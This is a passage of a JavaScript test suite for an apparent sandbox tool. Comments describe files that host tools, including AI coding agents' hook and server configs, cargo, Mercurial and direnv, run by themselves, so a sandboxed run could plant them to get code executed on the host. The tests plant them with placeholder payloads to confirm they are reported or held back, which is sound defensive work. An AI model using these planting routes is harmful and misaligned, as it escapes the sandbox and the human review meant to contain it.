'use strict'
// Found by an attacker's review (tools23, names_probe.js): files beside the listed protected and
// report-only names that host tools load and act on by themselves were planted with `hostRisks: []`
// (bwrap and review; review's apply landed them): GitHub Copilot CLI's `.github/hooks/*.json`,
// Cline's `.clinerules/hooks`, Bun's `.env.<mode>[.local]`, hk's `hk.pkl`, VS Code's
// `*.code-workspace`, lazy.nvim's `.lazy.lua`, Emacs's `.dir-locals.el`, Amp's `.amp`. Each is
// planted for real in each mode, and the outcome asserted on the host.

const { describe, test } = require('node:test')
const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { execFileSync } = require('node:child_process')
const { changeSetStore, sandspawn, tempTree, show, sh, q } = require('./helpers')

const STORE = changeSetStore('sandspawn-planted-names-')

/** Kept absent at the workspace's top (moved aside and reported), as `.claude` and `.nvim.lua` are. */
const KEPT = ['.clinerules/hooks/TaskStart', '.lazy.lua', '.dir-locals.el', '.dir-locals-2.el', '.amp/settings.json', '.github/hooks/session.json',
  // host25 (names_probe.js): more agents, RVM, rbenv-vars, Theia, Pants, sbt, jj.
  '.openhands/setup.sh', '.pi/settings.json', '.continuerc.json', '.rvmrc', '.rbenv-vars', '.versions.conf', '.theia/tasks.json', '.pants.bootstrap', '.sbtrc', '.jj/repo/config.toml',
  // hostb40: YouCompleteMe imports the nearest .ycm_extra_conf.py up from each file Vim opens.
  // and localvimrc sources every .lvimrc from the file's directory up to / (whitelisted paths unasked).
  '.ycm_extra_conf.py', '.lvimrc']
/** Report-only, as `.env` and lefthook's files are: created, and reported. */
const REPORTED = ['.env.local', '.env.development', '.env.test', '.env.production', '.env.development.local', '.env.test.local', '.env.production.local', 'hk.pkl', 'hk.local.pkl', '.config/hk.pkl', '.config/hk.local.pkl', 'proj.code-workspace', 'sub/x.code-workspace',
  // host25: hook managers' and language/build servers' files, and bazelisk's wrapper.
  '.lintstagedrc.json', 'lint-staged.config.mjs', '.huskyrc', '.overcommit.yml', '.rusty-hook.toml', 'hie.yaml', '.bsp/sbt.json', '.lsp/config.edn', '.luarc.json', 'tools/bazel', 'sub/tools/bazel',
  // rfix34: yarn berry (4) injects .env.yarn (injectEnvironmentFiles' default) into every script it runs.
  '.env.yarn']
const MODES = { bwrap: {}, landlock: { linux: { allow: ['landlock'] } } }

function plant(list) {
  return list.map((rel) => `mkdir -p ${q(path.dirname(rel))} 2>/dev/null; echo planted > ${q(rel)}`).join('; ') + '; true'
}

/** The hostRisks entry for `rel` (or for a directory above it that the risk names). */
function riskFor(risks, ws, rel) {
  return risks.find((h) => h.kind === 'protected-name-created' && (h.path === path.join(ws, rel) || path.join(ws, rel).startsWith(h.path + '/')))
}

/** `kept` are kept absent and each reported, `reported` each reported, in a direct run's result `r`. */
function assertKeptAndReported(r, ws, kept, reported = []) {
  for (const rel of kept) {
    assert.equal(fs.existsSync(path.join(ws, rel)), false, `${rel} stayed\n${JSON.stringify(r.hostRisks)}`)
    assert.ok(riskFor(r.hostRisks, ws, rel), `${rel}: ${JSON.stringify(r.hostRisks)}`)
  }
  for (const rel of reported) assert.ok(riskFor(r.hostRisks, ws, rel), `${rel}: ${JSON.stringify(r.hostRisks)}`)
}

/** In review mode each of `rels`, planted, is a risk of the change set, and apply holds it back. */
async function assertHeldBackInReview(t, rels) {
  const tree = tempTree(t)
  const r = await sandspawn.spawnSandboxed(['sh', '-c', plant(rels)], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
  assert.ok(r.changeSet, show(r))
  for (const rel of rels) assert.ok(riskFor(r.changeSet.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.changeSet.hostRisks)}`)
  await sandspawn.applyChangeSet(r.changeSet.id, {})
  for (const rel of rels) assert.equal(fs.existsSync(path.join(tree.ws, rel)), false, `${rel} landed`)
}

describe('names host tools act on beside the listed ones', () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: each is kept absent or reported`, async (t) => {
      const tree = tempTree(t)
      fs.mkdirSync(path.join(tree.ws, '.github/workflows'), { recursive: true })
      const r = await sh(plant([...KEPT, ...REPORTED]), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      assertKeptAndReported(r, tree.ws, KEPT, REPORTED)
      // `.github` itself is the project's (workflows): writing there is no risk.
      const quiet = await sh('echo "on: push" > .github/workflows/ci.yml', { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(quiet.exitCode, 0, show(quiet))
      assert.deepEqual(quiet.hostRisks, [], show(quiet))
    })
  }

  test('review: each is a risk of the change set and held back by apply', async (t) => {
    const tree = tempTree(t)
    const all = [...KEPT, ...REPORTED]
    const r = await sandspawn.spawnSandboxed(['sh', '-c', `${plant(all)}; mkdir -p .github/workflows && echo x > .github/workflows/ci.yml`], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
    assert.ok(r.changeSet, show(r))
    for (const rel of all) assert.ok(riskFor(r.changeSet.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.changeSet.hostRisks)}`)
    const res = await sandspawn.applyChangeSet(r.changeSet.id, {})
    for (const rel of all) assert.equal(fs.existsSync(path.join(tree.ws, rel)), false, `${rel} landed`)
    assert.equal(fs.readFileSync(path.join(tree.ws, '.github/workflows/ci.yml'), 'utf8'), 'x\n', JSON.stringify(res))
  })
})

// Found by an attacker's review (rfix23b, gh_hooks_link.js): the run made `.github` a symlink to a
// directory of its own holding `hooks/evil.json` (with no `.github` before, or after moving the
// project's aside). `.github/hooks` is matched by its parent's name and the walk follows no link:
// bwrap and review said nothing, and review's apply landed it. The same for the other nested paths
// (a parent made a link to a directory holding the file): each is reported, or kept absent where
// names are, or held back.
/** `rel` reached through `link`, made a symlink to `target` holding the rest of `rel`. */
const LINKED = [
  { rel: '.github/hooks/evil.json', link: '.github', target: 'ci-meta', kept: true },
  { rel: 'sub/.github/hooks/evil.json', link: 'sub/.github', target: 'sub/meta', kept: true },
  { rel: '.config/hk.pkl', link: '.config', target: 's-cfg' },
  { rel: '.cargo/config.toml', link: '.cargo', target: 's-cargo', kept: true },
  { rel: '.vscode/tasks.json', link: '.vscode', target: 's-vscode', kept: true },
]

function plantLinked(list) {
  return list
    .map(({ rel, link, target }) => {
      const file = path.join(target, path.relative(link, rel))
      return `(mkdir -p ${q(path.dirname(file))} && echo '{}' > ${q(file)} && ln -s ${q(path.basename(target))} ${q(link)} && echo linked:${link})`
    })
    .join('; ') + '; true'
}

/** A risk naming the link, the file through it, or the file where the link leads (or a directory between). */
function linkedRisk(risks, ws, { rel, link, target }) {
  const ways = [[path.join(ws, link), path.join(ws, rel)], [path.join(ws, target), path.join(ws, target, path.relative(link, rel))]]
  return risks.find((h) => ways.some(([top, full]) => h.path.startsWith(top) && (h.path === full || full.startsWith(h.path + '/'))))
}

function linkedTree(t, exists) {
  const tree = tempTree(t)
  execFileSync('git', ['init', '-q', path.join(tree.ws, 'sub')])
  if (exists) {
    fs.mkdirSync(path.join(tree.ws, '.github/workflows'), { recursive: true })
    fs.writeFileSync(path.join(tree.ws, '.github/workflows/ci.yml'), 'on: push\n')
  }
  return tree
}

describe('a nested protected path reached through a parent made a symlink', () => {
  for (const exists of [false, true]) {
    const pre = exists ? 'mv .github .github.old; ' : ''
    for (const [mode, extra] of Object.entries(MODES)) {
      test(`${mode}, .github ${exists ? 'existing' : 'missing'} before: each is kept absent or reported`, async (t) => {
        const tree = linkedTree(t, exists)
        const r = await sh(pre + plantLinked(LINKED), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
        assert.equal(r.exitCode, 0, show(r))
        for (const l of LINKED) {
          const there = fs.existsSync(path.join(tree.ws, l.rel))
          if (l.kept) assert.equal(there, false, `${l.rel} stayed\n${show(r)}\n${JSON.stringify(r.hostRisks)}`)
          if (there || r.stdout.includes(`linked:${l.link}\n`)) assert.ok(linkedRisk(r.hostRisks, tree.ws, l), `${l.rel}: ${show(r)}\n${JSON.stringify(r.hostRisks)}`)
        }
      })
    }

    test(`review, .github ${exists ? 'existing' : 'missing'} before: each is a risk of the change set and held back by apply`, async (t) => {
      const tree = linkedTree(t, exists)
      const r = await sandspawn.spawnSandboxed(['sh', '-c', pre + plantLinked(LINKED)], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
      assert.ok(r.changeSet, show(r))
      for (const l of LINKED) assert.ok(linkedRisk(r.changeSet.hostRisks, tree.ws, l), `${l.rel}: ${JSON.stringify(r.changeSet.hostRisks)}`)
      const res = await sandspawn.applyChangeSet(r.changeSet.id, {})
      for (const l of LINKED) assert.equal(fs.existsSync(path.join(tree.ws, l.rel)), false, `${l.rel} landed: ${JSON.stringify(res)}`)
    })
  }
})

// The same review: a `.github` that already was a symlink leads Copilot CLI to the `hooks` of its
// target, which the run writes there by the target's name.
describe('.github/hooks reached through a .github symlink there before the run', () => {
  const LINKS = [{ rel: '.github/hooks/evil.json', link: '.github', target: 'ci-meta' }, { rel: 'sub/.github/hooks/evil.json', link: 'sub/.github', target: 'sub/meta' }]
  const plantThrough = LINKS.map(({ target }) => `(mkdir -p ${target}/hooks && echo '{}' > ${target}/hooks/evil.json && echo wrote:${target})`).join('; ') + '; true'
  function linkedBefore(t) {
    const tree = linkedTree(t, false)
    for (const { link, target } of LINKS) {
      fs.mkdirSync(path.join(tree.ws, target, 'workflows'), { recursive: true })
      fs.symlinkSync(path.basename(target), path.join(tree.ws, link))
    }
    return tree
  }
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: each is reported`, async (t) => {
      const tree = linkedBefore(t)
      const r = await sh(plantThrough, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      for (const l of LINKS) {
        if (fs.existsSync(path.join(tree.ws, l.rel)) || r.stdout.includes(`wrote:${l.target}\n`)) assert.ok(linkedRisk(r.hostRisks, tree.ws, l), `${l.rel}: ${show(r)}\n${JSON.stringify(r.hostRisks)}`)
      }
    })
  }
  // Found by an attacker's review (rfix23c): where the target already held `hooks/`, the plan
  // kept `.github/hooks` read-only through the link, and every run failed setup as changed.
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: a target that holds hooks/ already does not stop later runs`, async (t) => {
      const tree = linkedBefore(t)
      for (const { target } of LINKS) {
        fs.mkdirSync(path.join(tree.ws, target, 'hooks'))
        fs.writeFileSync(path.join(tree.ws, target, 'hooks/hooks.json'), '{}\n')
      }
      for (let i = 0; i < 2; i++) {
        const r = await sh('echo ran', { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
        assert.equal(r.exitCode, 0, `run ${i}: ${show(r)}`)
        assert.equal(r.stdout, 'ran\n', show(r))
      }
    })
  }
  test('review: each is a risk of the change set and held back by apply', async (t) => {
    const tree = linkedBefore(t)
    const r = await sandspawn.spawnSandboxed(['sh', '-c', plantThrough], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
    assert.ok(r.changeSet, show(r))
    for (const l of LINKS) assert.ok(linkedRisk(r.changeSet.hostRisks, tree.ws, l), `${l.rel}: ${JSON.stringify(r.changeSet.hostRisks)}`)
    const res = await sandspawn.applyChangeSet(r.changeSet.id, {})
    for (const l of LINKS) assert.equal(fs.existsSync(path.join(tree.ws, l.rel)), false, `${l.rel} landed: ${JSON.stringify(res)}`)
  })
})

// Found by an attacker's review (host30): GitHub Copilot CLI loads `.github/lsp.json` of the
// repository as its project configuration of language servers, and "once the working directory
// is trusted ... automatically starts any LSP servers that are relevant to your project, in the
// background" (docs.github.com, Copilot CLI "Using LSP servers"): each server's `command` runs on
// the host when a session starts there, as `.github/hooks` does. A run wrote one (and rewrote the
// project's own in place) with hostRisks [], and review's apply landed it. Projects commit it
// (the lsp-setup skill writes it), so it is report-only, as `tools/bazel` is.
// Copilot CLI (1.0.61 on) also auto-loads a trusted repository's `.github/mcp.json` as its
// workspace MCP configuration (beside `.mcp.json`, a protected name): each local server's command
// starts with the session.
const LSP = ['.github/lsp.json', 'sub/.github/lsp.json', '.github/mcp.json', 'sub/.github/mcp.json']
const LSP_JSON = JSON.stringify({ lspServers: { x: { command: '/tmp/evil', fileExtensions: { '.js': 'javascript' } } } })

describe("host30: Copilot CLI's .github/lsp.json and .github/mcp.json", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: created, or changed in place, it is reported; the workflows stay quiet`, async (t) => {
      const tree = tempTree(t)
      fs.mkdirSync(path.join(tree.ws, '.github/workflows'), { recursive: true })
      const made = await sh(`${plant(LSP)}; echo "on: push" > .github/workflows/ci.yml`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(made.exitCode, 0, show(made))
      for (const rel of LSP) assert.ok(riskFor(made.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(made.hostRisks)}`)
      assert.ok(!made.hostRisks.some((h) => h.path.includes('workflows')), JSON.stringify(made.hostRisks))
      // The project's own, rewritten in place (same inode).
      const changed = await sh(`printf '%s' ${q(LSP_JSON)} 1<> .github/lsp.json`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(changed.exitCode, 0, show(changed))
      assert.ok(riskFor(changed.hostRisks, tree.ws, '.github/lsp.json'), JSON.stringify(changed.hostRisks))
    })
  }

  test('review: a risk of the change set, held back by apply', async (t) => {
    const tree = tempTree(t)
    const r = await sandspawn.spawnSandboxed(['sh', '-c', `${plant(LSP)}; mkdir -p .github/workflows && echo x > .github/workflows/ci.yml`], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
    assert.ok(r.changeSet, show(r))
    for (const rel of LSP) assert.ok(riskFor(r.changeSet.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.changeSet.hostRisks)}`)
    const res = await sandspawn.applyChangeSet(r.changeSet.id, {})
    for (const rel of LSP) assert.equal(fs.existsSync(path.join(tree.ws, rel)), false, `${rel} landed`)
    assert.equal(fs.readFileSync(path.join(tree.ws, '.github/workflows/ci.yml'), 'utf8'), 'x\n', JSON.stringify(res))
  })
})

// Found by an attacker's review (host30): two more coding agents read project settings that start
// commands by themselves, as Claude Code's `.claude` does: Letta Code's `.letta/settings.json` and
// `.letta/settings.local.json` (hooks: SessionStart, PreToolUse ... run their `command`), and Qoder
// CLI's (and the Qoder IDE's) `.qoder/settings.json` and `.qoder/settings.local.json` (hooks and
// `mcpServers`, applied once the directory is trusted). Each landed with hostRisks [].
const AGENTS30 = ['.letta/settings.json', '.qoder/settings.json']

describe('host30: Letta Code and Qoder project settings', () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: kept absent at the workspace's top and reported`, async (t) => {
      const tree = tempTree(t)
      const r = await sh(plant(AGENTS30), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      assertKeptAndReported(r, tree.ws, AGENTS30)
    })
  }

  test('review: a risk of the change set, held back by apply', (t) => assertHeldBackInReview(t, AGENTS30))
})

// Found by an attacker's review (host31), each planted with `hostRisks: []` in every mode (review's
// apply landed it): coc.nvim's `.vim/coc-settings.json` (coc finds the nearest `.vim` directory up
// from each file opened and starts the `command` of each `languageserver` listed there), Ansible's
// `ansible.cfg` (every ansible command takes the cwd's: an executable `vault_password_file` or
// `inventory` is run, `callback_plugins` and `vars_plugins` load Python) and PDM's `.pdm-python`
// (the interpreter every later pdm command runs). And act's `.actrc` (act, which runs a repository's
// GitHub workflows locally, takes its flags from the cwd's `.actrc`: `-P ubuntu-latest=-self-hosted`
// runs every step on the host itself, `--privileged` and `--container-daemon-socket` hand the
// containers the host's Docker) and DDEV's `.ddev` (its `config.yaml` hooks' `exec-host` tasks run
// on the host at every `ddev start`, as `.devcontainer`'s `initializeCommand` does).
const HOST31_KEPT = ['.vim/coc-settings.json', '.actrc', '.ddev/config.yaml']
const HOST31_REPORTED = ['ansible.cfg', 'sub/ansible.cfg', '.pdm-python', 'sub/.pdm-python', 'sub/.vim/coc-settings.json']

describeKeptAndReported('host31: coc.nvim, Ansible and PDM files a run plants', HOST31_KEPT, HOST31_REPORTED)

// Found by an attacker's review (host31): a protected name that already exists below the tops (a
// package of a monorepo with its own `.cargo/config.toml`, `.vscode`, `.claude` or `.mcp.json`) is
// neither read-only there nor looked at after the run: rewritten in place, or given a new file
// inside, it landed with `hostRisks: []` in bwrap and Landlock mode (only one created or replaced
// was reported), and the host's next `cargo build` in `sub` ran the `rustc-wrapper` the run wrote
// (checked with cargo 1.x: cargo reads `.cargo/config.toml` from the cwd and every parent).
const DEEPER = { 'sub/.cargo/config.toml': '[build]\n', 'sub/.vscode/settings.json': '{}\n', 'sub/.claude/settings.json': '{}\n', 'sub/.mcp.json': '{}\n' }

describe('host31: an existing protected name below the tops, changed in place', () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: a rewrite in place, or a new file inside, is reported; reading them is not`, async (t) => {
      const tree = tempTree(t)
      for (const [rel, text] of Object.entries(DEEPER)) {
        fs.mkdirSync(path.dirname(path.join(tree.ws, rel)), { recursive: true })
        fs.writeFileSync(path.join(tree.ws, rel), text)
      }
      const quiet = await sh(`cat ${Object.keys(DEEPER).map(q).join(' ')} >/dev/null`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(quiet.exitCode, 0, show(quiet))
      assert.deepEqual(quiet.hostRisks, [], JSON.stringify(quiet.hostRisks))
      const r = await sh(
        `printf '[build]\\nrustc-wrapper = "/var/tmp/w"\\n' > sub/.cargo/config.toml && echo '{"tasks":[]}' > sub/.vscode/tasks.json && ` +
          `echo '{"hooks":{}}' > sub/.claude/settings.json && echo '{"mcpServers":{}}' > sub/.mcp.json`,
        { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra },
      )
      assert.equal(r.exitCode, 0, show(r))
      for (const rel of ['sub/.cargo/config.toml', 'sub/.vscode/tasks.json', 'sub/.claude/settings.json', 'sub/.mcp.json']) {
        assert.ok(riskFor(r.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.hostRisks)}`)
      }
    })
  }
})
// Found by an attacker's review (host32): a version-control store below the tops (`sub/.hg` of a
// Mercurial repository inside the workspace, Sapling's `.sl`, jj's `.jj`, Pijul's `.pijul`) is as
// writable as the rest of the workspace and was not stamped (host31's stamp of protected names
// below the tops leaves stores out: each holds its whole history), so a run that appended
// `[hooks] pre-status = ...` to an existing `sub/.hg/hgrc`, or wrote `.sl/config`, jj's
// `.jj/repo/config.toml` or `.pijul/config` into an existing store, had `hostRisks: []` in bwrap
// and Landlock mode; the host's next `hg status` in `sub` ran the hook (checked with Mercurial 7.2).
// A jj workspace's `.jj/repo` file (the path of the repository it shares) repointed is the same.
const STORES = { 'sub/.hg/hgrc': '[paths]\ndefault = ../up\n', 'sub/.hg/requires': 'store\n', 'sub/.hg/store/data/x': 'x\n', 'sl/.sl/requires': 'store\n', 'jj/.jj/repo/store/x': 'x\n', 'jjw/.jj/repo': '../../jj/.jj/repo\n', 'pj/.pijul/pristine/db': 'x\n',
  // host41: darcs' `_darcs/prefs/defaults` (a posthook, run-posthook), beside its patches.
  'dc/_darcs/prefs/defaults': 'ALL verbose\n', 'dc/_darcs/patches/p': 'x\n' }

describe('host32: the configuration files of a version-control store below the tops', () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: rewritten in place, created or repointed, each is reported; the store's own work is not`, async (t) => {
      const tree = tempTree(t)
      for (const [rel, text] of Object.entries(STORES)) {
        fs.mkdirSync(path.dirname(path.join(tree.ws, rel)), { recursive: true })
        fs.writeFileSync(path.join(tree.ws, rel), text)
      }
      // What hg, sl, jj and pijul do to their stores as they work (a commit's files, the dirstate
      // renamed into place) and reading the configuration: nothing said.
      const quiet = await sh(
        'cat sub/.hg/hgrc jjw/.jj/repo >/dev/null && echo d > sub/.hg/dirstate.tmp && mv sub/.hg/dirstate.tmp sub/.hg/dirstate && ' +
          'echo y > sub/.hg/store/data/x && echo y > jj/.jj/repo/store/y && echo y > pj/.pijul/pristine/db && mkdir -p sl/.sl/store && echo y > dc/_darcs/patches/q',
        { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra },
      )
      assert.equal(quiet.exitCode, 0, show(quiet))
      assert.deepEqual(quiet.hostRisks, [], JSON.stringify(quiet.hostRisks))
      const r = await sh(
        `printf '[hooks]\\npre-status = touch /var/tmp/w\\n' >> sub/.hg/hgrc && printf '[hooks]\\npre-status = x\\n' > sl/.sl/config && ` +
          `printf '[aliases]\\nst = ["util","exec","--","x"]\\n' > jj/.jj/repo/config.toml && echo ../../elsewhere/.jj/repo > jjw/.jj/repo && ` +
          `printf '[hooks]\\nrecord = ["x"]\\n' > pj/.pijul/config && printf 'ALL posthook touch /var/tmp/w\\nALL run-posthook\\n' >> dc/_darcs/prefs/defaults`,
        { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra },
      )
      assert.equal(r.exitCode, 0, show(r))
      for (const rel of ['sub/.hg/hgrc', 'sl/.sl/config', 'jj/.jj/repo/config.toml', 'jjw/.jj/repo', 'pj/.pijul/config', 'dc/_darcs/prefs/defaults']) {
        assert.ok(riskFor(r.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.hostRisks)}`)
      }
    })
  }
})
// Found by an attacker's review (host32): nix-direnv (the usual `use flake` / `use nix` of an
// `.envrc` the user allowed) evals its cached `.direnv/flake-profile-<sha1>.rc` (and
// `nix-profile-*.rc`) whenever it is newer than flake.nix, and puts `.direnv/bin` first on PATH;
// direnv watches the .rc, so the host's shell reloads at its next prompt. A run that appended a
// command to the rc and wrote `.direnv/bin/git` had `hostRisks: []`, and the host's
// `direnv exec . git --version` (direnv 2.32.1, nix-direnv 3.2.0's direnvrc) ran both; direnv's
// allow list is of the `.envrc` alone. Report-only: direnv writes them on the host.
const DIRENV = ['.direnv/nix-profile-2.24-x.rc', '.direnv/bin/git', 'sub/.direnv/bin/git', 'sub/.direnv/flake-profile-y.rc']

describe("host32: direnv's layout directory (.direnv/*.rc, .direnv/bin)", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: created, changed in place or made a link, each is reported; its other entries are not`, async (t) => {
      const tree = tempTree(t)
      fs.mkdirSync(path.join(tree.ws, '.direnv/bin'), { recursive: true })
      fs.mkdirSync(path.join(tree.ws, '.direnv/python-3.12/lib'), { recursive: true })
      fs.writeFileSync(path.join(tree.ws, '.direnv/flake-profile-a.rc'), 'export A=1\n')
      fs.writeFileSync(path.join(tree.ws, '.direnv/bin/nix-direnv-reload'), '#!/bin/sh\n')
      const quiet = await sh('cat .direnv/flake-profile-a.rc >/dev/null && echo x > .direnv/python-3.12/lib/x && mkdir -p .direnv/flake-inputs', { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(quiet.exitCode, 0, show(quiet))
      assert.deepEqual(quiet.hostRisks, [], JSON.stringify(quiet.hostRisks))
      const r = await sh(`${plant(DIRENV)}; echo 'touch /var/tmp/w' >> .direnv/flake-profile-a.rc; mkdir -p other/d/bin sub2 && ln -s ../other/d sub2/.direnv`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      for (const rel of [...DIRENV, '.direnv/flake-profile-a.rc', 'sub2/.direnv']) assert.ok(riskFor(r.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.hostRisks)}`)
    })
  }

  test('review: a risk of the change set, held back by apply', async (t) => {
    const tree = tempTree(t)
    const r = await sandspawn.spawnSandboxed(['sh', '-c', `${plant(DIRENV)}; mkdir -p .direnv/python-3.12 && echo x > .direnv/python-3.12/x`], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
    assert.ok(r.changeSet, show(r))
    for (const rel of DIRENV) assert.ok(riskFor(r.changeSet.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.changeSet.hostRisks)}`)
    const res = await sandspawn.applyChangeSet(r.changeSet.id, {})
    for (const rel of DIRENV) assert.equal(fs.existsSync(path.join(tree.ws, rel)), false, `${rel} landed`)
    assert.equal(fs.readFileSync(path.join(tree.ws, '.direnv/python-3.12/x'), 'utf8'), 'x\n', JSON.stringify(res))
  })
})
// Found by an attacker's review (fix33) of host32's .direnv patterns: nix-direnv's `use flake`
// watches flake.nix and flake.lock (`use nix` shell.nix), and when one is newer than its cached
// .direnv/*.rc it builds the dev shell again on the host and evals `nix print-dev-env`, which ends
// in the dev shell's `shellHook`, in the host's shell at its next prompt. A run that gave
// flake.nix a shellHook (or a flake.lock pointing an input elsewhere, or a shell.nix) had
// `hostRisks: []`: the .rc it reports is then written by the host itself. Reported, not kept:
// commands edit them legitimately.
const NIX_SHELLS = ['flake.nix', 'flake.lock', 'sub/shell.nix']

describe("fix33: the files nix-direnv's dev shell is built from (flake.nix, flake.lock, shell.nix)", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: created or changed in place, each is reported`, async (t) => {
      const tree = tempTree(t)
      fs.writeFileSync(path.join(tree.ws, '.envrc'), 'use flake\n')
      fs.writeFileSync(path.join(tree.ws, 'flake.nix'), '{ outputs = _: { }; }\n')
      fs.writeFileSync(path.join(tree.ws, 'flake.lock'), '{ "nodes": { } }\n')
      // Made here: the Landlock mode refuses new entries at a top that holds a protected file (.envrc).
      fs.mkdirSync(path.join(tree.ws, 'sub'))
      const quiet = await sh('cat flake.nix flake.lock >/dev/null', { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(quiet.exitCode, 0, show(quiet))
      assert.deepEqual(quiet.hostRisks, [], JSON.stringify(quiet.hostRisks))
      const r = await sh(
        `echo '{ outputs = _: { devShells.x86_64-linux.default = { shellHook = "touch /var/tmp/w"; }; }; }' > flake.nix && ` +
          `echo '{ "nodes": { "x": { "locked": { "url": "file:///tmp/x" } } } }' >> flake.lock && echo '{ shellHook = "x"; }' > sub/shell.nix`,
        { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra },
      )
      assert.equal(r.exitCode, 0, show(r))
      for (const rel of NIX_SHELLS) assert.ok(riskFor(r.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.hostRisks)}`)
    })
  }
})
// Found by an attacker's review (host32): direnv's convention for a user's own additions is
// `source_env_if_exists .envrc.local` in the `.envrc` (direnv's wiki; many projects commit it), and
// direnv's allow list is of the `.envrc` alone: a run that wrote `.envrc.local` had
// `hostRisks: []`, and the host's next `direnv exec .` (or cd, or the next prompt: direnv watches
// it) ran it (direnv 2.32.1). Protected, as `.envrc` is.
const ENVRC_LOCAL = ['.envrc.local', 'repo/.envrc.local']

describe("host32: direnv's .envrc.local", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: kept absent at a top and reported`, async (t) => {
      const tree = tempTree(t)
      execFileSync('git', ['init', '-q', path.join(tree.ws, 'repo')])
      const r = await sh(plant(ENVRC_LOCAL), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      // Moved aside and reported (bwrap), or refused as `.envrc` is (the Landlock mode).
      for (const rel of ENVRC_LOCAL) {
        assert.equal(fs.existsSync(path.join(tree.ws, rel)), false, `${rel} stayed\n${JSON.stringify(r.hostRisks)}`)
        const refused = r.stderr.includes(`${rel}: Permission denied`)
        assert.ok(riskFor(r.hostRisks, tree.ws, rel) || (mode === 'landlock' && refused), `${rel}: ${JSON.stringify(r.hostRisks)}\n${show(r)}`)
      }
    })
  }

  test('review: a risk of the change set, held back by apply', async (t) => {
    const tree = tempTree(t)
    const r = await sandspawn.spawnSandboxed(['sh', '-c', plant(['.envrc.local', 'sub/.envrc.local'])], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
    assert.ok(r.changeSet, show(r))
    for (const rel of ['.envrc.local', 'sub/.envrc.local']) assert.ok(riskFor(r.changeSet.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.changeSet.hostRisks)}`)
    await sandspawn.applyChangeSet(r.changeSet.id, {})
    assert.equal(fs.existsSync(path.join(tree.ws, '.envrc.local')), false, '.envrc.local landed')
  })
})
// Found by an attacker's review (fix31) of host30's fix: Copilot CLI's project configuration of
// language servers is `lsp.json` at the repository's root as well as `.github/lsp.json` (GitHub's
// own lsp-setup skill and Copilot CLI's reference: "Repo-level: `lsp.json` (repo root) or
// `.github/lsp.json`"); host30's pattern matched `.github/lsp.json` only, and a run that wrote
// `lsp.json` at the workspace's top (or a repository's below it) had hostRisks [] and review's
// apply landed it: Copilot CLI starts the `command` of each server it lists when a session starts.
const ROOT_LSP = ['lsp.json', 'sub/lsp.json']

describe("fix31: Copilot CLI's lsp.json at a repository's top", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: created, or changed in place, it is reported`, async (t) => {
      const tree = tempTree(t)
      // A repository below the workspace's top (bwrap only: in the Landlock mode a root holding a
      // repository's .git takes no new entries at its top).
      const planted = mode === 'bwrap' ? ROOT_LSP : ROOT_LSP.slice(0, 1)
      if (mode === 'bwrap') fs.mkdirSync(path.join(tree.ws, 'sub/.git'), { recursive: true })
      const made = await sh(planted.map((rel) => `printf '%s' ${q(LSP_JSON)} > ${rel}`).join('; '), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(made.exitCode, 0, show(made))
      for (const rel of planted) assert.ok(riskFor(made.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(made.hostRisks)}`)
